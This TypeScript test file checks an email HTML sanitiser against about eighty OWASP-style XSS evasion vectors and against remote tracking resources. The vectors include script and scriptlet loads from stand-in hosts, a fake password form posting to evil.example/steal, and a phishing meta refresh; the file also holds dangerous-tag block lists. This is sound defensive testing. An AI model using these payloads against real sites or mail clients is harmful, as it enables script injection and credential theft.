import { describe, expect, it } from "vitest";
import { sanitizeHtml, srcsetUrls } from "../../src/engine/ingest/sanitize.js";

interface Tag {
  name: string;
  attrs: Record<string, string>;
}

function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/**
 * Every tag in the sanitiser's output. Its serialiser escapes text (`<` → `&lt;`) and
 * always double-quotes attributes, so a regex over the output sees exactly the tags a
 * browser would build.
 */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  for (const m of html.matchAll(/<([a-zA-Z][\w:-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    const attrs: Record<string, string> = {};
    for (const a of (m[2] ?? "").matchAll(/([^\s=>/]+)(?:="([^"]*)")?/g)) {
      attrs[(a[1] ?? "").toLowerCase()] = decodeEntities(a[2] ?? "");
    }
    tags.push({ name: (m[1] ?? "").toLowerCase(), attrs });
  }
  return tags;
}

const DANGEROUS_TAGS = [
  "script",
  "style",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "form",
  "input",
  "button",
  "select",
  "textarea",
  "option",
  "meta",
  "base",
  "link",
  "svg",
  "math",
  "animate",
  "set",
  "use",
  "image",
  "video",
  "audio",
  "source",
  "portal",
  "template",
  "noscript",
  "xmp",
  "plaintext",
  "isindex",
  "html",
  "head",
  "body",
];

function assertSafe(html: string): void {
  // Any "<" in the output starts a real tag; every one must be accounted for.
  const opening = (html.match(/<[a-zA-Z]/g) ?? []).length;
  const tags = tagsOf(html);
  expect(tags.length, `unparsed tag in ${html}`).toBe(opening);
  for (const t of tags) {
    expect(DANGEROUS_TAGS, `tag <${t.name}> in ${html}`).not.toContain(t.name);
    for (const [name, value] of Object.entries(t.attrs)) {
      expect(name.startsWith("on"), `event handler ${name} in ${html}`).toBe(false);
      expect([
        "srcdoc",
        "formaction",
        "action",
        "xlink:href",
        "xmlns",
        "srcset",
        "ping",
        "http-equiv",
        "id",
        "name",
        "class",
        "background",
      ]).not.toContain(name);
      const compact = value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
      expect(compact, `${name}=${value}`).not.toMatch(/^(?:javascript|vbscript|livescript):/);
      if (name === "href") expect(compact).toMatch(/^(?:https?:|mailto:|tel:|#)/);
      if (name === "src") {
        expect(t.name).toBe("img");
        expect(compact).toMatch(/^(?:cid:|data:image\/(?:png|gif|jpe?g|webp|bmp);base64,)/);
      }
      if (name === "style")
        expect(compact).not.toMatch(/expression|url\(|@import|behavior|-moz-binding|\\|javascript/);
    }
  }
}

// OWASP XSS filter evasion cheat sheet style vectors, plus mail-specific ones.
const VECTORS: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//>",
  '<IMG SRC="javascript:alert(1);">',
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  "<IMG SRC=`javascript:alert(1)`>",
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(2)>x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><h1><a href="javascript:alert(1)">click</a></h1></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Login</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src="x" onerror="alert(1)">',
  "<isindex type=image src=1 onerror=alert(1)>",
  "<select onfocus=alert(1) autofocus><option>x</option></select>",
  "<textarea onfocus=alert(1) autofocus>x</textarea>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0; url=https://phish.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>body{background:url('javascript:alert(1)')}</style>",
  '<div style="width: expression(alert(1));">x</div>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>',
  '<div style="color: \\65 xpression(alert(1))">x</div>',
  '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999">overlay</div>',
  '<table background="javascript:alert(1)"><tr><td background="https://tracker.example/bg.gif">x</td></tr></table>',
  "<body onload=alert(1)>x</body>",
  '<body background="javascript:alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<div id="x" name="y" class="navbar">clobber</div>',
  '<img src="x" id="location" name="cookie">',
  '<a href="https://ok.example" target="_self" ping="https://tracker.example">x</a>',
  '<img srcset="https://a.example/x.png 1x, javascript:alert(1) 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<img """><script>alert(1)</script>">',
  "<<SCRIPT>alert(1);//<</SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<a href="/graphql?query=mutation">relative</a>',
  '<img src="/api/logout">',
  '<a href="//evil.example/x">protocol-relative</a>',
];

describe("sanitizeHtml: XSS vectors", () => {
  it("the safety check itself catches unsafe markup", () => {
    expect(() => assertSafe('<img src="x" onerror="alert(1)">')).toThrow();
    expect(() => assertSafe('<a href="jav&#x09;ascript:alert(1)">x</a>')).toThrow();
    expect(() => assertSafe("<svg></svg>")).toThrow();
    expect(() => assertSafe('<p style="width:expression(alert(1))">x</p>')).toThrow();
    expect(() => assertSafe("<p>fine</p>")).not.toThrow();
  });

  it.each(VECTORS)("neutralises %s", (vector) => {
    const { html } = sanitizeHtml(vector);
    assertSafe(html);
    expect(html.toLowerCase()).not.toMatch(
      /<script|<iframe|<object|<embed|<svg|<math|<form|<meta|<base|<style/,
    );
  });

  it("the whole set at once, wrapped in a normal mail, stays safe", () => {
    const { html } = sanitizeHtml(
      `<html><head><title>x</title></head><body><p>Hi</p>${VECTORS.join("\n")}</body></html>`,
    );
    assertSafe(html);
    expect(html).toContain("<p>Hi</p>");
  });
});

describe("sanitizeHtml: what is kept", () => {
  it("keeps common formatting and tables", () => {
    const input =
      '<p>Hello <b>bold</b> <i>it</i> <u>u</u> <strong>s</strong></p><ul><li>a</li></ul><blockquote type="cite">q</blockquote>' +
      '<table border="1" cellpadding="2"><tr><td colspan="2" align="center">cell</td></tr></table><br><hr><pre>code</pre>';
    const { html } = sanitizeHtml(input);
    expect(html).toBe(
      '<p>Hello <b>bold</b> <i>it</i> <u>u</u> <strong>s</strong></p><ul><li>a</li></ul><blockquote type="cite">q</blockquote>' +
        '<table border="1" cellpadding="2"><tr><td colspan="2" align="center">cell</td></tr></table><br /><hr /><pre>code</pre>',
    );
  });

  it("keeps a safe subset of inline styles", () => {
    const { html } = sanitizeHtml(
      '<p style="color: #ff0000; font-weight: bold; background-color: rgb(1, 2, 3); position: fixed; margin: 0 auto; display: none">x</p>',
    );
    expect(html).toBe(
      '<p style="color:#ff0000;font-weight:bold;background-color:rgb(1, 2, 3);margin:0 auto;display:none">x</p>',
    );
  });

  it("reads property names in any case, and drops negative margins (probe, session 16)", () => {
    // DISPLAY:NONE was dropped, so hidden text showed; a negative margin lets a mail draw
    // over what precedes it on a desktop that shows it in the page.
    const { html } = sanitizeHtml(
      '<p style="DISPLAY:NONE; Color: Red">hidden</p><div style="margin-top:-500px; MARGIN-LEFT: -2em; margin: 0 auto">x</div>',
    );
    expect(html).toBe('<p style="display:NONE;color:Red">hidden</p><div style="margin:0 auto">x</div>');
    // A comment in front of the name (second re-probe).
    expect(
      sanitizeHtml('<p style="/* x */DISPLAY:NONE">a</p><p style="color:red;/**/Display:none">b</p>').html,
    ).toBe('<p style="display:NONE">a</p><p style="color:red;display:none">b</p>');
  });

  it("drops style blocks entirely, contents included", () => {
    expect(sanitizeHtml("<style>p{color:red}</style><p>x</p>").html).toBe("<p>x</p>");
  });

  it("keeps text content of dropped harmless containers", () => {
    expect(sanitizeHtml("<custom-tag>text</custom-tag>").html).toBe("text");
  });

  it("makes links open safely", () => {
    expect(sanitizeHtml('<a href="https://ok.example/a?b=1&amp;c=2">x</a>').html).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitizeHtml('<a href="mailto:a@b.example">m</a>').html).toContain('href="mailto:a@b.example"');
    expect(sanitizeHtml('<a href="#sec">s</a>').html).toBe('<a href="#sec">s</a>');
    expect(sanitizeHtml('<a href="/relative">r</a>').html).toBe("<a>r</a>");
  });

  it("keeps raster data: images only", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    expect(sanitizeHtml(`<img src="${png}" alt="dot">`).html).toBe(`<img src="${png}" alt="dot" />`);
    expect(sanitizeHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">').html).toBe("<img />");
  });
});

describe("sanitizeHtml: cid and remote resources", () => {
  it("keeps cid: sources and lists them (RFC 2392, URL-decoded)", () => {
    const r = sanitizeHtml(
      '<img src="cid:logo@acme"><img src="CID:part1%40x.example"><img src="cid:logo@acme">',
    );
    expect(r.cidRefs).toEqual(["logo@acme", "part1@x.example"]);
    expect(r.html).toContain('src="cid:logo@acme"');
    expect(r.remoteResources).toEqual([]);
  });

  it("neutralises remote images into data-remote-src and lists them", () => {
    const r = sanitizeHtml(
      '<img src="https://tracker.example/open.gif?u=1" width="1" height="1"><img src="//cdn.example/a.png"><img src="http://x.example/b.png">',
    );
    expect(r.remoteResources).toEqual([
      "https://tracker.example/open.gif?u=1",
      "https://cdn.example/a.png",
      "http://x.example/b.png",
    ]);
    for (const t of tagsOf(r.html)) {
      expect(t.attrs.src).toBeUndefined();
      expect(t.attrs["data-remote-src"]).toMatch(/^https?:\/\//);
    }
  });

  it("lists and removes remote backgrounds (attribute and CSS url())", () => {
    const r = sanitizeHtml(
      '<table background="https://t.example/bg.png"><tr><td style="background-image: url(\'https://t.example/c.png\'); color: red">x</td></tr></table>',
    );
    expect(r.remoteResources).toEqual(["https://t.example/bg.png", "https://t.example/c.png"]);
    expect(r.html).not.toContain("t.example");
    expect(r.html).toContain('style="color:red"');
  });

  it("keeps a cid: source with spaces as written, trimmed (a browser keeps them; compacted it named no part)", () => {
    const r = sanitizeHtml('<img src="  cid:scan 3@x \n"><img src="ci\td:tab\n@x">');
    expect(r.html).toBe('<img src="cid:scan 3@x" /><img src="cid:tab@x" />');
    expect(r.cidRefs).toEqual(["scan 3@x", "tab@x"]);
  });

  it("lists only the cid: images it keeps: a cid: background is removed and not listed", () => {
    const r = sanitizeHtml(
      '<table background="cid:a5@x"><tr><td>t</td></tr></table><div style="background:url(cid:a5@x)">d</div><img src="cid:shown@x">',
    );
    expect(r.cidRefs).toEqual(["shown@x"]);
    expect(r.html).not.toContain("a5@x");
  });

  // The tester's inputs (2026-11-23): each was dropped without being listed, except the
  // last three, which were listed already.
  const REMOTE: [string, string, string[]][] = [
    [
      "img srcset only",
      '<img srcset="http://t.example/2.png 1x, http://t.example/2b.png 2x" alt="logo">',
      ["http://t.example/2.png", "http://t.example/2b.png"],
    ],
    [
      "<style> url()",
      "<style>td{background:url(http://t.example/5.png)}</style><p>x</p>",
      ["http://t.example/5.png"],
    ],
    [
      "<style> @import",
      "<style>@import url(\"http://t.example/6.css\"); @import 'https://t.example/6b.css';</style><p>x</p>",
      ["http://t.example/6.css", "https://t.example/6b.css"],
    ],
    [
      "picture source",
      '<picture><source srcset="http://t.example/7.png"><img alt="p"></picture>',
      ["http://t.example/7.png"],
    ],
    ["video poster", '<video poster="http://t.example/8.png"></video>', ["http://t.example/8.png"]],
    ["input image", '<input type="image" src="http://t.example/9.png">', ["http://t.example/9.png"]],
    [
      "link stylesheet",
      '<link rel="stylesheet" href="http://t.example/10.css"><p>x</p>',
      ["http://t.example/10.css"],
    ],
    [
      "svg image",
      '<svg><image href="http://t.example/11.png"/><image xlink:href="//t.example/11b.png"/></svg>',
      ["http://t.example/11.png", "https://t.example/11b.png"],
    ],
    ["backslash img", '<img src="\\\\t.example\\13.png">', ["https://t.example/13.png"]],
    [
      "in <head>",
      '<html><head><link rel=stylesheet href="https://h.example/a.css"><style>p{background:url( "https://h.example/c.png" )}</style></head><body><p>x</p></body></html>',
      ["https://h.example/c.png", "https://h.example/a.css"],
    ],
    ["img src", '<img src="http://t.example/1.png">', ["http://t.example/1.png"]],
    [
      "background attr",
      '<table background="http://t.example/3.png"><tr><td>x</td></tr></table>',
      ["http://t.example/3.png"],
    ],
    [
      "style url()",
      "<div style=\"background-image:url('http://t.example/4.png')\">x</div>",
      ["http://t.example/4.png"],
    ],
  ];
  it.each(REMOTE)("lists every remote reference and loads none: %s", (_name, input, listed) => {
    const r = sanitizeHtml(input);
    expect(r.remoteResources).toEqual(listed);
    assertSafe(r.html);
    expect(r.html).not.toMatch(
      /(?:\ssrc|\ssrcset|\sbackground|\sposter|\shref)\s*=\s*"(?:https?:)?[\\/]{2}|url\(/i,
    );
  });

  it("shows a srcset-only image as its first candidate, neutralised like a src", () => {
    expect(
      sanitizeHtml('<img srcset="http://t.example/2.png 1x, http://t.example/2b.png 2x" alt="logo">').html,
    ).toBe('<img alt="logo" data-remote-src="http://t.example/2.png" />');
    const cid = sanitizeHtml('<img srcset="cid:logo@x 1x, http://t.example/2x.png 2x">');
    expect([cid.html, cid.cidRefs, cid.remoteResources]).toEqual([
      '<img src="cid:logo@x" />',
      ["logo@x"],
      ["http://t.example/2x.png"],
    ]);
  });

  it("reads srcset candidates as HTML does (commas inside URLs, descriptors with parentheses)", () => {
    expect(srcsetUrls("a.png 1x, data:image/png;base64,AA,BB 2x,c.png,, d.png (x, y) 3w, e.png")).toEqual([
      "a.png",
      "data:image/png;base64,AA,BB",
      "c.png",
      "d.png",
      "e.png",
    ]);
  });

  it("scans style elements in linear time (unclosed start tags, many elements)", () => {
    const t0 = performance.now();
    sanitizeHtml("<style ".repeat(200_000));
    sanitizeHtml("<style>@import '".repeat(100_000));
    expect(performance.now() - t0).toBeLessThan(3000);
  });

  it("ignores a data-remote-src the mail itself brought", () => {
    const r = sanitizeHtml('<img data-remote-src="javascript:alert(1)">');
    expect(r.html).toBe("<img />");
  });
});
